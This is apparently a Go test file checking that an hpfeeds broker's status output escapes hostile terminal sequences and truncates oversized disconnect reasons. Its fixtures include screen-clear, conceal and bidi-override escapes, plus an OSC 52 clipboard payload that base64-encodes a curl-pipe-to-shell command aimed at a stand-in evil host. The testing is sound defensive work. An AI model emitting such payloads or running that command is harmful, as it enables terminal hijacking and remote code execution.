package main

import (
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/hpfeeds-go/hpfeeds/broker/brokertest"
	"github.com/hpfeeds-go/hpfeeds/status"
	"github.com/hpfeeds-go/hpfeeds/wire"
)

// `hpfeeds-broker status` against the real binary, with escape sequences
// in an ident, its owner and channels in the store, and in what clients
// plant in disconnect reasons: a refused SUBSCRIBE of a 512 KiB channel and
// a PUBLISH with a spoofed ident. The terminal gets every one escaped, and
// the reason cut where the broker records it.
func TestStatusEscapesHostileText(t *testing.T) {
	const (
		clear   = "\x1b[2J\x1b[H"
		osc52   = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07ALL SENSORS OK"
		conceal = "\x1b[8m\x1b[5A"
	)
	evil, evilChan := clear+"evil"+conceal, "ch"+conceal+"\u202e"
	db := filepath.Join(t.TempDir(), "users.db")
	chans, _ := json.Marshal([]string{evil, evilChan})
	for _, u := range [][]string{
		{"--ident=" + evil, "--owner=" + osc52, "--pubchans=" + string(chans), "--subchans=" + string(chans)},
		{"--ident=reader", "--subchans=ok"},
		{"--ident=writer", "--pubchans=ok"},
	} {
		if code, out := run(t, nil, append([]string{"user", "add", "--auth=" + db, "--secret=s"}, u...)...); code != 0 {
			t.Fatalf("user add: %s", out)
		}
	}
	// Not startBroker: on the code before, a log line of megabytes stopped
	// its line scanner, and the broker then blocked writing its log.
	port, eport := freePort(t), freePort(t)
	startCounted(t, nil, "--auth="+db, "-e", "tcp:interface=127.0.0.1:port="+port, "--exporter=127.0.0.1:"+eport)
	addr := "127.0.0.1:" + port
	dialAs(t, addr, evil, evilChan)
	huge := strings.Repeat(clear+osc52+conceal, 512<<10/len(clear+osc52+conceal))
	c := brokertest.Login(t, addr, "reader", "s")
	c.Send(brokertest.Subscribe(t, "reader", huge))
	c.ExpectError(wire.NotAllowed(wire.ErrNoSubscribePrefix, "reader", huge))
	c = brokertest.Login(t, addr, "writer", "s")
	c.Send(brokertest.Publish(t, clear+osc52, "ok", "x"))
	c.ExpectError(wire.IdentMismatch(clear + osc52))

	url := "http://127.0.0.1:" + eport
	var identz string
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		_, identz = get(t, url+"/identz")
		var r status.Identz
		json.Unmarshal([]byte(identz), &r)
		if n := reasons(r); n == 2 || time.Now().After(deadline) {
			break
		}
	}
	if len(identz) > 8<<10 {
		t.Errorf("/identz is %d bytes, want under 8 KiB: the reasons are cut where recorded", len(identz))
	}
	code, jsonOut := run(t, nil, "status", "--url", url, "--json")
	var r status.Report
	if err := json.Unmarshal([]byte(jsonOut), &r); code != 0 || err != nil || len(r.Chanz.Channels) != 2 {
		t.Fatalf("status --json: exit %d, %v: %.2000q", code, err, jsonOut)
	}
	termSafe(t, "status --json", jsonOut)
	code, out := run(t, nil, "status", "--url", url)
	if code != 0 {
		t.Fatalf("status: exit %d: %.2000q", code, out)
	}
	termSafe(t, "status", out)
	if len(out) > 16<<10 {
		t.Errorf("status wrote %d bytes, want under 16 KiB", len(out))
	}
	for _, want := range []string{
		`"\x1b[2J\x1b[Hevil\x1b[8m\x1b[5A"  "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\aALL SENSORS OK"  connected`,
		`"ch\x1b[8m\x1b[5A\u202e"`,
		`("Invalid authkey in message, ident=\x1b[2J\x1b[H\x1b]52;c;`,
		`("Authkey not allowed to sub here. ident=reader, chan=\x1b[2J\x1b[H\x1b]52;c;`,
		` bytes)")`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("no %s in:\n%s", want, out)
		}
	}
}

// reasons is how many idents of r have a disconnect reason.
func reasons(r status.Identz) (n int) {
	for _, in := range r.Idents {
		if in.LastReason != "" {
			n++
		}
	}
	return n
}

// termSafe fails the test if out holds what a terminal would act on rather
// than print: a control character but newline, invalid UTF-8, or a format
// character (bidi overrides and the like).
func termSafe(t *testing.T, what, out string) {
	t.Helper()
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRuneInString(out[i:])
		if r != '\n' && (size == 1 && r == utf8.RuneError || unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
			t.Fatalf("%s wrote %U at byte %d of %d: %.3000q", what, r, i, len(out), out)
		}
		i += size
	}
}
